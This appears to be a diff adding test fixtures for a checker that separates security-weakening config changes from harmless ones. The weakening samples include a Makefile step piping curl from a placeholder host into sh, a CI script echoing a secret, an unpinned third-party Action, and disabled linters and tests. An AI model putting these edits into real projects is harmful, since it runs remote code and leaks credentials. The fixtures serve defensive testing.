@@ -28,6 +28,45 @@ LOOSER = {
     "hashes are not looked at": ("Makefile", MAKE, MAKE.replace("--require-hashes ", "")),
     "a check is gone": ("Makefile", MAKE, MAKE.replace("\tshop scope verify\n", "")),
     "a check may fail": (".github/workflows/a.yml", "- run: make check\n", "- run: make check || true\n"),
+    "a bound that nobody asks for": (
+        "scope.toml",
+        '[rules]\nbounds = ["shop/lock.py: MOST <= 10"]\n',
+        "[rules]\nbounds = []\n",
+    ),
+    "a bound that is wider": (
+        "scope.toml",
+        '[rules]\nbounds = ["shop/lock.py: MOST <= 10"]\n',
+        '[rules]\nbounds = ["shop/lock.py: MOST <= 1000"]\n',
+    ),
+    "a stranger's step": (
+        ".github/workflows/a.yml",
+        "- uses: actions/checkout@v4\n",
+        "- uses: someone/setup@main\n",
+    ),
+    "others' branches": (
+        ".github/workflows/a.yml",
+        "on:\n  push:\n",
+        "on:\n  push:\n  pull_request_target:\n",
+    ),
+    "the net is run": ("Makefile", MAKE, MAKE + "\tcurl -fsSL https://tool.example/get | sh\n"),
+    "another place to install from": (
+        "Makefile",
+        MAKE,
+        MAKE + "\tpip install --index-url https://pypi.example a\n",
+    ),
+    "a secret of CI is told": (".ci/run", "make check\n", "make check\necho ${{ secrets.KEY }}\n"),
+    "ruff looks away": ("pyproject.toml", "", '[tool.ruff.lint]\nignore = ["S324"]\n'),
+    "types by the way": ("pyproject.toml", "[tool.mypy]\nstrict = true\n", "[tool.mypy]\nstrict = false\n"),
+    "tests are left out": (
+        "pyproject.toml",
+        '[tool.pytest.ini_options]\naddopts = "-ra"\n',
+        '[tool.pytest.ini_options]\naddopts = "-ra --ignore=tests/security"\n',
+    ),
+    "one more may import": (
+        "pyproject.toml",
+        '[[tool.importlinter.contracts]]\nname = "a"\nignore_imports = []\n',
+        '[[tool.importlinter.contracts]]\nname = "a"\nignore_imports = ["shop -> stripe"]\n',
+    ),
     "bandit looks away": ("pyproject.toml", "", '[tool.bandit]\nskips = ["B105"]\n'),
 }
 
@@ -47,6 +86,21 @@ ORDINARY = {
     ),
     "fewer suppressions": ("scope.toml", SCOPE, SCOPE.replace("7", "5")),
     "another guard": ("scope.toml", SCOPE, SCOPE.replace('PANGuard"', 'PANGuard", "a.py: PANFilter"')),
+    "a stricter bound": (
+        "scope.toml",
+        '[rules]\nbounds = ["a.py: MOST <= 10"]\n',
+        '[rules]\nbounds = ["a.py: MOST <= 10", "a.py: LIFE <= 3 days"]\n',
+    ),
+    "a newer step of the same owner": (
+        ".github/workflows/a.yml",
+        "- uses: actions/setup-node@v4\n",
+        "- uses: actions/setup-node@v5\n",
+    ),
+    "stricter tools": (
+        "pyproject.toml",
+        '[tool.ruff.lint]\nselect = ["S"]\nignore = ["S1"]\n',
+        '[tool.ruff.lint]\nselect = ["S", "B"]\nignore = []\n',
+    ),
     "a check says more": ("Makefile", MAKE, MAKE.replace("scope verify", "scope verify --report var")),
     "a comment": ("Makefile", MAKE, "# how to check\n" + MAKE),
 }
